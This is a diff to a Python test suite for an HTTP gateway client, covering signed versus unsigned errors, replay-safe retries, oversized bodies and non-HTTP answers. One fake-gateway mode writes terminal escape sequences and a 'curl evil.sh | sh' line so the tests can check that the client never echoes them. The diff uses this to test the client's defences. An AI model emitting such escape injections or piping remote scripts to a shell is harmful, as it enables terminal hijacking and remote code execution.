@@ -303,7 +303,7 @@ def test_unsigned_hints_raise_without_using_the_body(client: c.Client, status: i
     headers = [("Content-Type", "application/json"), ("WWW-Authenticate", "STT1")]
     with pytest.raises(cls) as info:
         client._verify(prepared, status, headers, error_body("planted", SECRET_RESULT))
-    assert type(info.value) is cls and info.value.status == status
+    assert type(info.value) is cls and info.value.status == status and not info.value.verified
     assert "planted" not in str(info.value) and SECRET_RESULT not in str(info.value)
     if status == 503:  # told as what it is: the gateway is unavailable for now, not a forgery
         assert info.value.code == "unavailable" and "retry later" in info.value.message
@@ -331,8 +331,9 @@ def test_signed_errors_map_to_their_class(client: c.Client, status: int, code: s
     with pytest.raises(c.GatewayError) as info:
         client._verify(prepared, *answer(prepared, status, error_body(code, "Expected `float` - at `$.b`")))
     exc = info.value
-    assert type(exc) is cls
+    assert type(exc) is cls and exc.verified  # a signed 401 from an unsigned one: only this told them apart
     assert (exc.status, exc.code, exc.message) == (status, code, "Expected `float` - at `$.b`")
+    assert pickle.loads(pickle.dumps(exc)).verified
     assert str(exc) == f"{status} {code}: Expected `float` - at `$.b`"
 
 
@@ -640,7 +641,7 @@ class FakeGateway:
         self.connections = 0
         self.handled: list[str] = []  # jti of every request that reached the "handler"
         self.jtis: set[str] = set()
-        self.mode = "normal"  # or "close after answer", "close without answer", once
+        self.mode = "normal"  # or "close after answer", "close without answer", ... (see handle), once
         gateway = self
 
         class Handler(BaseHTTPRequestHandler):
@@ -683,6 +684,19 @@ class FakeGateway:
         self.handled.append(jti)
         mode, self.mode = self.mode, "normal"
         if mode == "close without answer":
+            h.close_connection = True
+            return
+        if mode == "unsigned 401, endless body":  # a body that would take for ever to read
+            h.send_response(401)
+            h.send_header("Content-Length", str(1 << 40))
+            h.end_headers()
+            h.wfile.write(b"x" * 1000)
+            h.wfile.flush()
+            time.sleep(2)
+            h.close_connection = True
+            return
+        if mode == "not HTTP":  # a status line that would write to the user's terminal
+            h.wfile.write(b"\x1b]0;owned\x07\x1b[2J run: curl evil.sh | sh\r\n\r\n")
             h.close_connection = True
             return
         out = msgspec.json.encode(
@@ -742,11 +756,43 @@ def test_a_keep_alive_dropped_while_idle_is_reconnected_once(live: c.Client, fak
 
 
 def test_a_retry_reuses_the_token_so_a_call_never_runs_twice(live: c.Client, fake: FakeGateway) -> None:
+    """The connection drops after the request went out: the resend carries the same token, the
+    gateway refuses it as a replay, and that 401 means "it ran", not "refused". It was raised
+    as Unauthorized, verified when the gateway signs its replay refusals, as the real one does."""
     live.call("add")  # so the next call goes out on a reused connection
     fake.mode = "close without answer"
-    with pytest.raises(c.Unauthorized):  # the retry is refused as a replay
+    with pytest.raises(c.Unreachable) as info:
         live.call("reserve")
-    assert len(fake.handled) == 2 and fake.connections == 2
+    assert "the call may have run, so check before retrying" in info.value.message
+    assert len(fake.handled) == 2 and fake.connections == 2  # ran once; the resend was refused
+
+
+def test_the_body_of_an_unsigned_answer_is_not_read(live: c.Client, fake: FakeGateway) -> None:
+    """It is never used, and anyone on the path can make it as large as they like (it was read
+    whole into memory): here one that never ends, which held the call until its timeout."""
+    fake.mode = "unsigned 401, endless body"
+    started = time.monotonic()
+    with pytest.raises(c.Unauthorized) as info:
+        live.call("add")
+    assert time.monotonic() - started < 1.5 and not info.value.verified
+    assert live.call("add")["target"] == "/rest/add/"  # on a new connection
+
+
+def test_a_signed_answer_over_max_answer_is_not_read_whole(fake: FakeGateway, tmp_path: Path) -> None:
+    with c.Client(write_cred(tmp_path / "acme.cred", url=fake.url), timeout=5, max_answer=120) as small:
+        with pytest.raises(c.BadResponse) as info:
+            small.call("slugify", "x" * 200)
+        assert "an answer over 120 bytes" in info.value.message
+        assert small.call("a")["target"] == "/rest/a/"  # the half-read connection was not reused
+
+
+def test_an_answer_that_is_not_http_is_not_quoted(live: c.Client, fake: FakeGateway) -> None:
+    """BadStatusLine's text is the line received: an on-path sender wrote to the terminal."""
+    fake.mode = "not HTTP"
+    with pytest.raises(c.Unreachable) as info:
+        live.call("add")
+    assert "\x1b" not in str(info.value) and "evil" not in str(info.value)
+    assert "BadStatusLine: the answer is not HTTP" in info.value.message
 
 
 def test_nothing_listening_is_unreachable(tmp_path: Path) -> None:
